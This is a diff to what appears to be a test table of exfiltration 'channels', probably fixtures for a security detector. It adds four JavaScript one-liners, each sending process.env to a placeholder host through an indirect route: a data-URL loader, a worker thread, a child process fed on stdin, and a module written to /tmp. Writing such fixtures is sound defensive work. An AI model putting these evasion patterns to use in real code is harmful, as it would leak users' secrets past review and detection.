@@ -429,6 +429,22 @@ const CHANNELS: readonly Row[] = [
     'class C{constructor(){this.c={k:undefined}} set(k){this.c.k=k} go(){SEND«this.c.k»}} READ;const c=new C();c.set(k);c.go()',
   ],
   [
+    'a loader in a URL',
+    "require('module').register('data:text/javascript,'+encodeURIComponent(`fetch('x',{body:JSON.stringify(process.env)})`))",
+  ],
+  [
+    'a worker in a URL',
+    "const {Worker}=require('worker_threads');new Worker(new URL(`data:text/javascript,fetch('x',{body:JSON.stringify(process.env)})`))",
+  ],
+  [
+    'a program that node reads',
+    "const p=require('child_process').spawn(process.execPath,['-']);p.stdin.end(`fetch('x',{body:JSON.stringify(process.env)})`)",
+  ],
+  [
+    'a module that is written first',
+    "require('fs').writeFileSync('/tmp/z.js',`fetch('x',{body:JSON.stringify(process.env)})`);require('/tmp/z.js')",
+  ],
+  [
     'a service that is kept in private',
     "class T{send(p){return fetch('x',{body:JSON.stringify(p)})}} class C{#t;constructor(t){this.#t=t} go(){this.#t.send(process.env)}} new C(new T()).go()",
   ],
